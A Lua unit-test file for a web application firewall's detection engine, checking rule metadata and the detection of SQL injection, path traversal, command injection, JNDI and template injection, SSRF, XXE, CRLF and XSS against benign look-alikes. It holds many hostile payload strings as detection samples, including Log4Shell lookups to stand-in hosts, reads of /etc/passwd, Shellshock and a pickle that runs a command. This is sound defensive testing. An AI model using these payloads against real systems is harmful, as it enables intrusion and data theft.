-- Unit specs for moongate.waf.detect (the WAF's detection engine, interface 2
-- of docs/notes-i14-waf.md): its interface, and per rule class attacks and
-- look-alikes written for this spec (none is a line of spec/waf/, which the
-- engine was tuned on). PCRE2 runs through core/rx.c built as a shared object
-- (spec/waf/rxlib.lua), the same C the proxy runs.
require "waf.rxlib"
local detect = require "moongate.waf.detect"

local engine = assert(detect.new({ paranoia = 1 }))

-- the ids that hit one value
local function ids(v, var, where, eng)
  local hits = {}
  ;(eng or engine):value(v, var or "ARGS:q", where or "arg", hits)
  local out = {}
  for _, h in ipairs(hits) do out[#out + 1] = h.id end
  return out
end
local function class_of(id) return detect.rules[id].class end
-- whether `v` hits a rule of `class`
local function hits_class(class, v, var, where, eng)
  for _, id in ipairs(ids(v, var, where, eng)) do
    if class_of(id) == class then return true end
  end
  return false
end
local function request_ids(info)
  local hits = {}
  engine:request(info, hits)
  local out = {}
  for _, h in ipairs(hits) do out[h.id] = true end
  return out
end

describe("waf.detect", function()
  it("describes every rule: six-digit id in its class's range, severity, paranoia level, message", function()
    local n = 0
    local range = { scanner = 913, protocol = 920, lfi = 930, rfi = 931, cmdi = 932, php = 933,
      code = 934, nosqli = 935, ssrf = 936, ldap = 937, xxe = 938, crlf = 939, xss = 941, sqli = 942 }
    for id, r in pairs(detect.rules) do
      n = n + 1
      assert.equal(id, r.id)
      assert.is_true(id >= 100000 and id <= 999999)
      local base = math.floor(id / 1000)
      assert.is_true(base == range[r.class] or (r.class == "protocol" and base == 921), tostring(id))
      assert.is_true(r.severity >= 2 and r.severity <= 5)
      assert.is_true(r.pl >= 1 and r.pl <= 4)
      assert.is_string(r.msg)
    end
    assert.is_true(n > 50)
  end)

  it("refuses a paranoia level that is not 1..4", function()
    for _, pl in ipairs({ 0, 5, 1.5, "2" }) do
      local e, err = detect.new({ paranoia = pl })
      assert.is_nil(e)
      assert.matches("paranoia", err)
    end
  end)

  it("appends hits with id, severity, pl, msg, var and a match of at most 64 bytes", function()
    local hits = {}
    engine:value("x' or 'a'='a" .. string.rep(" ", 100) .. "--", "ARGS:user", "arg", hits)
    assert.equal(1, #hits)
    local h = hits[1]
    assert.equal(942100, h.id)
    assert.equal(5, h.severity)
    assert.equal(1, h.pl)
    assert.equal(detect.rules[942100].msg, h.msg)
    assert.equal("ARGS:user", h.var)
    assert.is_true(#h.match <= 64 and #h.match > 0)
  end)

  it("fires rules above paranoia 1 only in an engine at that level", function()
    local pl2 = assert(detect.new({ paranoia = 2 }))
    assert.is_false(hits_class("ssrf", "http://10.1.2.3/admin", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "http://10.1.2.3/admin", "ARGS:u", "arg", pl2))
    local hits = {}
    pl2:request({ method = "GET", target = "/phpmyadmin/index.php", path = "/phpmyadmin/index.php",
      version = "1.1", host = "a.example", headers = { { "host", "a.example" }, { "user-agent", "x" } } }, hits)
    assert.equal(913120, hits[1].id)
  end)

  it("SQL injection", function()
    assert.is_true(hits_class("sqli", "77' oR 'x'='x"))
    assert.is_true(hits_class("sqli", "1) union all select null,null--"))
    assert.is_true(hits_class("sqli", "3 union select pass from admins"))
    assert.is_true(hits_class("sqli", "1) OR (1=1"))
    assert.is_true(hits_class("sqli", "(case when 1=1 then 1 else 0 end)", "ARGS:sort"))
    assert.is_false(hits_class("sqli", "in case of rain, then what?"))
    assert.is_false(hits_class("sqli", "2) or (3) are both fine"))
    assert.is_false(hits_class("sqli", "SELECT is a keyword in SQL"))
    assert.is_false(hits_class("sqli", "Rock 'n' roll, O'Neill's band"))
  end)

  it("path traversal and OS files, in encodings and on Windows", function()
    assert.is_true(hits_class("lfi", "....//....//etc/passwd"))
    assert.is_true(hits_class("lfi", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"))
    assert.is_true(hits_class("lfi", "/proc/1/environ"))
    assert.is_true(hits_class("lfi", "phar://upload/a.jpg/x"))
    assert.is_true(hits_class("lfi", "/.git/config", "REQUEST_PATH", "path"))
    assert.is_false(hits_class("lfi", "C:\\Users\\sam\\Documents\\report.docx"))
    assert.is_false(hits_class("lfi", "see chapters 2..3 and 4/5"))
    assert.is_false(hits_class("lfi", "/docs/etc/overview", "REQUEST_PATH", "path"))
  end)

  it("remote file inclusion: include-like names, '?' tricks, UNC paths", function()
    assert.is_true(hits_class("rfi", "https://198.51.100.3/s.txt", "ARGS:inc"))
    assert.is_true(hits_class("rfi", "http://files.test/a.txt??", "ARGS:q"))
    assert.is_true(hits_class("rfi", "\\\\files.test\\pub\\a.php", "ARGS:x"))
    assert.is_false(hits_class("rfi", "https://www.example.com/img.png", "ARGS:image"))
    assert.is_false(hits_class("rfi", "https://example.com/a?b=c", "ARGS:return_to"))
  end)

  it("command injection, with quoting evasions", function()
    assert.is_true(hits_class("cmdi", "a.txt | id"))
    assert.is_true(hits_class("cmdi", "x`uname -a`"))
    assert.is_true(hits_class("cmdi", "foo$(sleep 5)"))
    assert.is_true(hits_class("cmdi", "x;/usr/bin/whoami"))
    assert.is_true(hits_class("cmdi", "10.0.0.1%0Auname"))
    assert.is_true(hits_class("cmdi", "1;w\"h\"o\"am\"i"))
    assert.is_true(hits_class("cmdi", "() { ignored; }; /bin/id", "REQUEST_HEADERS:Referer", "header"))
    assert.is_false(hits_class("cmdi", "Rock & Roll; jazz | blues"))
    assert.is_false(hits_class("cmdi", "I ran `make test` and it passed"))
    assert.is_false(hits_class("cmdi", "we use curl and wget for downloads"))
    assert.is_false(hits_class("cmdi", "#!/bin/bash\necho hi", "ARGS:script"))
  end)

  it("PHP, templates, JNDI, Node, Python, prototype pollution", function()
    assert.is_true(hits_class("php", "<?php echo 1; ?>"))
    assert.is_true(hits_class("php", "assert($_POST[x])"))
    assert.is_true(hits_class("code", "{{ ''.__class__.__base__ }}"))
    assert.is_true(hits_class("code", "${jndi:dns://x.test/a}", "REQUEST_HEADERS:X-Api-Key", "header"))
    assert.is_true(hits_class("code", "${${env:FOO:-j}ndi:${upper:l}dap://x.test/}"))
    assert.is_true(hits_class("code", "__proto__", "JSON:$", "json_key"))
    assert.is_true(hits_class("code", "prototype", "JSON:$.constructor.prototype", "json_key"))
    assert.is_true(hits_class("code", "constructor.prototype.isAdmin", "ARGS_NAMES:constructor.prototype.isAdmin", "arg_name"))
    assert.is_true(hits_class("code", "constructor[prototype][isAdmin]", "ARGS_NAMES:constructor[prototype][isAdmin]", "arg_name"))
    assert.is_false(hits_class("code", "prototype", "ARGS_NAMES:prototype", "arg_name"))
    assert.is_true(hits_class("code", "require('child_process').spawn('sh')"))
    assert.is_false(hits_class("code", "The {{name}} placeholder is replaced"))
    assert.is_false(hits_class("php", "$5 off (today only)"))
    assert.is_false(hits_class("code", "def __init__(self): pass"))
  end)

  it("NoSQL operators in names, keys and values", function()
    assert.is_true(hits_class("nosqli", "pwd[$gt]", "ARGS_NAMES:pwd[$gt]", "arg_name"))
    assert.is_true(hits_class("nosqli", "$where", "JSON:$.$where", "json_key"))
    assert.is_true(hits_class("nosqli", "{\"$regex\": \".*\"}", "REQUEST_COOKIES:f", "cookie"))
    assert.is_false(hits_class("nosqli", "filter[status]", "ARGS_NAMES:filter[status]", "arg_name"))
    assert.is_false(hits_class("nosqli", "$price", "JSON:$.$price", "json_key"))
    assert.is_false(hits_class("nosqli", "costs $5; cheap"))
  end)

  it("SSRF: loopback spellings, metadata, schemes; public hosts pass", function()
    assert.is_true(hits_class("ssrf", "http://0177.0.0.1/", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "http://[::1]:8080/", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "http://0x7f.1/", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "https://metadata.google.internal./x", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "http://[fd00:ec2::254]/latest", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "gopher://mail.test:25/_HELO", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "http://user@localhost:9000/", "ARGS:u"))
    assert.is_true(hits_class("ssrf", "http://127.0.0.1:6379 trailing words", "ARGS:u"))
    assert.is_false(hits_class("ssrf", "http://192.0.2.1/", "ARGS:u"))
    assert.is_false(hits_class("ssrf", "https://127example.com/x", "ARGS:u"))
    assert.is_false(hits_class("ssrf", "https://docs.example.com/localhost-setup", "ARGS:u"))
  end)

  it("LDAP, XXE, CRLF and mail headers", function()
    assert.is_true(hits_class("ldap", "jdoe)(|(mail=*))"))
    assert.is_false(hits_class("ldap", "Call me at (555) 123-4567 (ext. 9)"))
    assert.is_true(hits_class("xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><x>&e;</x>", "XML", "xml"))
    assert.is_false(hits_class("xxe", "<?xml version=\"1.0\"?><a><b>1</b></a>", "XML", "xml"))
    assert.is_true(hits_class("crlf", "en\r\nSet-Cookie: a=b"))
    assert.is_true(hits_class("crlf", "me@x.test\nbcc: all@x.test"))
    assert.is_false(hits_class("crlf", "line one\nline two: more"))
  end)

  it("scanners and protocol anomalies from the request as a whole", function()
    local base = { method = "GET", target = "/", path = "/", version = "1.1", host = "a.example" }
    local function with(t)
      local r = {}
      for k, v in pairs(base) do r[k] = v end
      for k, v in pairs(t) do r[k] = v end
      r.headers = r.headers or { { "host", "a.example" }, { "user-agent", "Mozilla/5.0" } }
      return request_ids(r)
    end
    assert.is_true(with({ headers = { { "host", "a.example" }, { "user-agent", "Mozilla/5.0 sqlmap/1.8" } } })[913100])
    assert.is_true(with({ headers = { { "host", "a.example" }, { "user-agent", "x" }, { "x-scanner", "1" } } })[913110])
    assert.is_true(with({ method = "PROPPATCH" })[920100])
    assert.is_true(with({ version = "1.2" })[920110])
    assert.is_true(with({ target = "http://other.test/" })[920120])
    assert.is_true(with({ headers = { { "host", "a.example" }, { "user-agent", "x" },
      { "content-type", "text/plain; charset=utf-7" } } })[920160])
    assert.is_true(with({ headers = { { "host", "a.example" }, { "user-agent", "x" },
      { "range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12" } } })[920130])
    assert.is_true(with({ query = "a=1&a=2&a=3&a=4&a=5&a=6&a=7&a=8" })[921100])
    assert.is_true(with({ query = "ip=1.2.3.4&&cat /etc/hosts" })[932100])
    -- an ordinary browser request: nothing
    local none = with({ query = "q=red+shoes&page=2", headers = { { "host", "a.example" },
      { "user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" },
      { "accept", "*/*" }, { "cookie", "a=1; b=2" } } })
    assert.same({}, none)
  end)

  it("catches common variants of each class (fullwidth dots, ..;/, lookups, quoting, ${IFS})", function()
    for _, v in ipairs({
      "%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "/..;/..;/manager/html", "..%c1%9c..%c1%9cboot.ini",
      ";cat</etc/passwd", ";sleep${IFS}5", "a;{ls,-la}", "||id", ";ls -la",
      "${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", "${j${k8s:k5:-ND}i:ldap://x.test}",
      "#{7*7}", "{{7*'7'}}", "cos\nsystem\n(S'id'\ntR.", "a%E5%98%8A%E5%98%8DSet-Cookie:x=1",
      "1 order by 3", "'or'1'='1", "1' waitfor delay '0:0:5'--", "http://127.000.000.001/",
      "http:/\\127.0.0.1/", "<a href=javascript&colon;alert(1)>x", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
      "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "%{#context['xwork.MethodAccessor']=1}",
      "Function('return process')()", "new ProcessBuilder(\"id\").start()", "hi\r\nTo: victim@x.test",
      "'; return this.a != ''", ";ping evil.test", ";${PATH:0:1}bin${PATH:0:1}id",
      "http://127.0.0.1.nip.io/", "http://app.localtest.me/",
    }) do
      assert.is_true(#ids(v) > 0, v)
    end
    assert.is_true(hits_class("rfi", "//evil.test/shell.txt", "ARGS:page"))
    assert.is_true(hits_class("code", "prototype", "JSON:$.constructor.prototype", "json_key"))
    assert.is_false(hits_class("code", "prototype", "JSON:$.docs.prototype", "json_key"))
  end)

  it("passes prose and code that look like attacks", function()
    for _, v in ipairs({
      "I'll be there at 5; don't wait up", "Use ls to list files and cd to change directory",
      "union of two sets in math", "rm -rf is dangerous, never run it as root",
      "price: $10 (excl. VAT); shipping: $2", "C++ & C# (dotnet) devs wanted", "Read /usr/share/doc for docs",
      "x = a || b && c", "function foo() { return 1; }", "let me know; I'll ping you tomorrow",
      "My path is C:\\Program Files\\App", "password must contain !@#$%^&*()", "1 or 2", "f(x)(y)",
      "Ünïcödé — “quotes” and ‘single’", "日本語のテキスト", "Use the onclick attribute sparingly",
      "In bash: for i in $(seq 1 10); do echo $i; done", "npm install --save express && npm start",
      "Use `git log --oneline | head` to see commits", "Hello {{ user.name }}, your order {{ order.id }} shipped",
      "${HOME}/bin is on my PATH", "The file is ../assets/logo.png relative to the page",
"Call exec() only with trusted input",
      "DELETE FROM logs WHERE ts < now() - interval '7 days';", "To: Marketing team\nSubject: Q3 plan",
    }) do
      assert.same({}, ids(v), v)
    end
  end)

  it("looks at 64 KiB hostile bodies without pathological cost", function()
    -- (a quadratic loop takes seconds to minutes here; these take milliseconds)
    for _, unit in ipairs({ "{{", "#{", "<a ", "{{a", "'a'=", "(|(", "`", "'`", "<a<a\xe2\x80\xb9a" }) do
      local v = string.rep(unit, math.floor(65536 / #unit))
      local t0 = os.clock()
      ids(v, "REQUEST_BODY", "body_raw")
      ids(v, "ARGS:q", "arg")
      assert.is_true(os.clock() - t0 < 1, unit .. " took " .. (os.clock() - t0) .. " s")
    end
  end)

  it("inspects base64 values as the text they decode to", function()
    -- base64 of "<script>alert(5)</script>"
    assert.is_true(hits_class("xss", "PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=="))
    assert.is_false(hits_class("xss", "aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91"))
  end)
end)
